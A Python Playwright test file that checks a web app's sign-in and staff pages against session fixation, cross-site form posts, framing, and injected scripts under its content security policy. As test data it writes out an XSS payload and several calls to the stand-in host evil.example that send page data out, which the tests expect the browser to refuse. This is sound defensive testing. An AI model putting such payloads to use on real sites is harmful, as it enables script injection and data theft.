"""A browser's own rules, in a browser: planted sessions, forms of other sites, scripts and frames that are not ours.

Without a platform and in seconds, so that `make test` has a browser in it; skipped where there is none.
"""

import time
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route, expect

from tests.staff.browsing import axe, narrow
from tests.staff.safety.conftest import HUB, Served

# In a process of its own (`make test-safety`): the browser keeps a loop running, which no other test can stand.
pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("staff-safety"), pytest.mark.timeout(300)]
Window = Callable[..., Page]
HEARD = "window.heard = []; addEventListener('securitypolicyviolation', e => heard.push(e.effectiveDirective))"


def test_the_page_for_signing_in_passes_wide_and_narrow(window: Window) -> None:
    page = window()
    page.goto("/sign-in")
    axe(page)
    narrow(page)


def test_a_session_planted_before_the_sign_in_is_worth_nothing_after_it(window: Window, served: Served) -> None:
    evil = window()
    evil.goto("/sign-in")
    planted = [{**each, "url": served.at} for each in _bare(evil)]
    assert planted
    victim = window()
    victim.context.add_cookies(planted)  # type: ignore[arg-type]  # name, value and url, as it takes them
    victim.goto("/sign-in?next=/purpose")
    victim.locator("button[value=tom-abiola]").click()
    expect(victim.locator(".ns-header__person")).to_have_text("Tom Abiola")
    assert {each["value"] for each in _bare(victim)}.isdisjoint(each["value"] for each in planted)
    evil.goto("/purpose")
    assert "/sign-in" in evil.url
    # Nor is the form token of before any good after it.
    token = evil.locator("input[name=csrf]").first.get_attribute("value")
    answer = victim.request.post("/purpose", form={"csrf": token or "", "purpose": "outreach"})
    assert answer.status == 403


def _bare(page: Page) -> list[dict[str, str]]:
    return [
        {"name": str(each["name"]), "value": str(each["value"])}
        for each in page.context.cookies()
        if str(each["name"]).startswith("newstart") and each["value"]
    ]


def test_scripts_see_no_session_and_going_back_after_signing_out_shows_nothing(window: Window) -> None:
    page = window("tom-abiola")
    assert page.evaluate("document.cookie") == ""
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/sign-in")
    page.go_back()
    expect(page.get_by_text("Tom Abiola", exact=True).and_(page.locator(".ns-header__person"))).to_have_count(0)
    assert "/sign-in" in page.url


@pytest.mark.parametrize("site", ["http://127.0.0.1:9", "http://evil.example"])
def test_a_form_of_another_site_changes_nothing(window: Window, served: Served, site: str) -> None:
    page = window("tom-abiola")
    before = page.locator(".ns-header__link", has_text="Change what").inner_text()
    # The worst case: it even knows the token.
    token = page.locator("input[name=csrf]").first.get_attribute("value")
    form = f"""<form method=post action="{served.at}/purpose"><input name=csrf value="{token}">
        <input name=purpose value=outreach></form>"""
    page.route(f"{site}/**", lambda route: route.fulfill(body=form, content_type="text/html"))
    page.goto(f"{site}/trap")
    with page.expect_response(f"{served.at}/purpose") as answered:
        page.evaluate("document.forms[0].submit()")
    assert answered.value.status == 403
    expect(page.get_by_text("sent from another site")).to_be_visible()
    page.goto(f"{served.at}/purpose")
    assert page.locator(".ns-header__link", has_text="Change what").inner_text() == before


def test_no_page_of_ours_stands_in_a_frame(window: Window, served: Served) -> None:
    page = window("tom-abiola")
    frame = f'<iframe src="{served.at}/purpose"></iframe>'

    def trap(route: Route) -> None:
        route.fulfill(body=frame, content_type="text/html")

    page.route("http://evil.example/**", trap)
    page.goto("http://evil.example/")
    page.wait_for_timeout(300)
    assert all("Tom Abiola" not in each.content() for each in page.frames)


def test_what_people_typed_runs_nowhere_and_no_script_but_ours_runs(window: Window, served: Served) -> None:
    evil = "<img src=x onerror=\"document.title='run'\"><script>document.title='run'</script>"
    served.gateway.on("GET /v1/triage/hubs", {"items": [{"code": "heath", "name": evil, "place": evil}]})
    try:
        page = window("bev-carter")
        page.goto("/kiosk/start")
        expect(page.get_by_text("onerror").first).to_be_visible()
        assert "run" not in page.title().split()
        # Even markup that got in by a fault of ours: neither its scripts nor its styles nor its calls outside work.
        page.evaluate(HEARD)
        page.evaluate(
            """() => {
            const script = document.createElement("script");
            script.textContent = "document.title = 'run'";
            const away = document.createElement("img");
            away.src = "http://evil.example/steal?what=" + document.title;
            const hidden = document.createElement("div");
            hidden.innerHTML = "<a style='color:red' onclick=\\"document.title='run'\\">x</a>";
            document.body.append(script, away, hidden);
            hidden.firstChild.click();
        }"""
        )
        _heard(page, "script-src-elem", "script-src-attr", "img-src", "style-src-attr")
        assert "run" not in page.title().split()
        page.evaluate("fetch('http://evil.example/').catch(() => null)")
        _heard(page, "connect-src")
        page.evaluate(
            """() => {
            const form = document.createElement("form");
            form.action = "http://evil.example/take"; form.method = "post";
            document.body.append(form); form.submit();
        }"""
        )
        _heard(page, "form-action")
        assert served.at in page.url
    finally:
        served.gateway.on("GET /v1/triage/hubs", {"items": [HUB]})


def _heard(page: Page, *refused: str) -> None:
    """The page was refused each of these. Asked from here: asking within the page would itself be refused at times."""
    limit = time.monotonic() + 10
    while not (heard := set(page.evaluate("heard"))) >= set(refused):
        assert time.monotonic() < limit, heard
        page.wait_for_timeout(50)
